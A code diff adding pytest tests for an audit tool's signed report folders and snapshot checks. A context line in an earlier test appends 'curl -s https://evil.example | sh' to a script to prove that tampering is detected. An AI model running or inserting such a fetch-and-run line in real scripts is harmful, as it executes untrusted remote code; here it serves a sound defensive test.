@@ -381,3 +381,45 @@ def test_a_signed_fix_plan_shows_whether_its_script_was_changed(
     script.write_text(script.read_text() + "curl -s https://evil.example | sh\n")
     code, text, _ = run(capsys, "verify", str(plan), "--public-key", str(public))
     assert code == 1 and f"FAIL {scripts[0]}: changed since the manifest was written" in text
+
+
+def test_report_puts_the_evidence_in_the_signed_folder(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
+) -> None:
+    """A pipeline that collects, evaluates and reports apart (shards, CI jobs) can still
+    hand the auditor one signed folder holding the evidence: `report --snapshot`."""
+    private, public = _key_pair(tmp_path)
+    out = tmp_path / "audit"
+    code, _, err = run(
+        capsys,
+        "report", str(scanned), "--out", str(out), "--format", "json,csv",
+        "--snapshot", str(scanned.parent / "snapshot.json"), "--sign-key", str(private),
+    )  # fmt: skip
+    assert code == 0, err
+    assert (out / "snapshot.json").read_bytes() == (scanned.parent / "snapshot.json").read_bytes()
+    manifest = json.loads((out / "MANIFEST.json").read_text())
+    assert set(manifest["files"]) == {"snapshot.json", "results.json", "report.csv"}
+    code, text, _ = run(capsys, "verify", str(out), "--public-key", str(public))
+    assert code == 0 and "verified" in text
+    # Re-rendering in place with the folder's own snapshot copies nothing and still verifies.
+    code, _, err = run(
+        capsys, "report", str(out / "results.json"), "--out", str(out), "--format", "markdown",
+        "--snapshot", str(out / "snapshot.json"),
+    )  # fmt: skip
+    assert code == 0, err
+    code, text, _ = run(capsys, "verify", str(out))
+    assert code == 0, text
+
+
+def test_report_refuses_a_snapshot_the_results_were_not_judged_on(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
+) -> None:
+    other = tmp_path / "other.json"
+    dump_snapshot(snapshot(trail(logging=True)), other)
+    out = tmp_path / "audit"
+    code, _, err = run(
+        capsys, "report", str(scanned), "--out", str(out), "--format", "csv",
+        "--snapshot", str(other),
+    )  # fmt: skip
+    assert code == 2 and "is not the snapshot the results were judged on" in one_line(err)
+    assert not out.exists()
